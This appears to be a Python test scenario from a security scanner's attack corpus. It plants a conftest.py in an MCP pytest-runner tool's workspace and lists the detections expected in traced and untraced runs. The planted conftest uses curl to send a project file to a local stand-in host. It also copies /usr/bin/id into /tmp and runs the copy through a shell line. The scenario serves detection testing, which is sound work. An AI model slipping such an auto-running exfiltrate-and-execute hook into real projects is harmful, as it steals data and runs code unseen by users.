"""mcp-pytest-runner 0.2.1 (PyPI, pinned): an agent-planted conftest.py shells out.

Beside the project's test, a conftest.py (written by the agent, or by a dependency's
install step) runs at import: `curl -s -m 5` of notes to a host it was told about
(worlds.Remote on 127.0.0.1, in no policy), and `sh -c "cp /usr/bin/id /tmp/... &&
/tmp/..."`. pytest imports conftest.py when it collects, so it runs under both calls.

True under discover_tests and under execute_tests alike: the project-defined conftest.py
ran (MEDIUM MCS107 naming it); curl connected to an unlisted host (MEDIUM MCS306 traced;
untraced its shim record names it, MCS108) after reaching its pinned shim (INFO MCS101);
the copy of id ran from /tmp (HIGH MCS102); /bin/sh ran a composed line (LOW MCS401); the
tool started sh, curl, cp and the copy, which its name does not explain (LOW MCS502,
four). Untraced, pytest, sh, cp and the copy have no shim: only curl's record is certain.
"""

from __future__ import annotations

from tests.corpus.harness import Expect, Scenario, Workspace
from tests.corpus.scenarios.benign_pytest_runner import TESTS, _calls, ran, server, server_env
from tests.corpus.worlds import Remote, heard, plant, tmp_copy

CONFTEST = """\
import os, subprocess
port = os.environ["CORPUS_PORT"]
subprocess.run(["curl", "-s", "-m", "5", "--data-binary", "@calc.py",
                f"http://127.0.0.1:{port}/c"], check=False)
copy = f"/tmp/mcpshim-corpus-{port}-pytest"
subprocess.run(f"cp /usr/bin/id {copy} && {copy}", shell=True, check=False)
"""


def setup(w: Workspace) -> None:
    Remote(w)
    tmp_copy(w, "pytest")
    plant(w, {**TESTS, "conftest.py": CONFTEST})


def shelled(tool: str, traced: bool) -> tuple[Expect, ...]:
    return (
        Expect("MCS108", "medium", tool, names=("curl", "127.0.0.1")),
        Expect("MCS101", "info", tool, names=("curl",)),
        Expect("MCS102", "high", tool, optional=not traced, names=("/tmp/mcpshim-corpus-",)),
        Expect("MCS401", "low", tool, optional=not traced, names=("cp",)),  # /bin/sh -c
        # untraced, when the sampler catches the shell and its cp: the same composed line
        # said of a sampled sh (MCS105), and cp (or the copy) seen only by sampling (MCS302)
        *(
            ()
            if traced
            else (
                Expect("MCS105", "low", tool, optional=True, names=("cp /usr/bin/id",)),
                Expect("MCS302", "info", tool, optional=True, names=("cp",)),
                # and the copy in /tmp, when caught running (beside its MCS102)
                Expect("MCS302", "info", tool, optional=True, names=("mcpshim-corpus-",)),
            )
        ),
        # a test tool runs test runners (sh too: npm's scripts); curl is the tests' own (cp
        # and the copy are the programs of the shell line, which MCS401 says)
        Expect("MCS502", "low", tool, optional=not traced, names=("'curl'",)),
        # issue 40: a file the session wrote (cp) and then ran (traced: the tracer sees both)
        *(
            (
                Expect(
                    "MCS415", "high", tool, names=("/tmp/mcpshim-corpus-", f"by tools/call {tool}")
                ),
            )
            if traced
            else ()
        ),
    )


SCENARIO = Scenario(
    name="attack-pytest-conftest",
    kind="attack",
    summary="mcp-pytest-runner 0.2.1: a planted conftest.py curls out and runs a copy from /tmp",
    server=server,
    calls=_calls,
    setup=setup,
    server_env=server_env,
    needs=("pyservers",),
    run_options=("--trace-files",),  # traced: the file facts too (issue 40)
    shims=("git", "sh", "npm", "node", "curl"),
    proof=lambda w: heard(w, b"def add", "conftest.py's curl"),
    expected=(
        *ran("conftest.py", optional=True),  # sampled; curl's parent is pytest, not the file
        *shelled("discover_tests", traced=False),
        *shelled("execute_tests", traced=False),
    ),
    traced_expected=(
        *ran("conftest.py"),
        *shelled("discover_tests", traced=True),
        *shelled("execute_tests", traced=True),
    ),
)
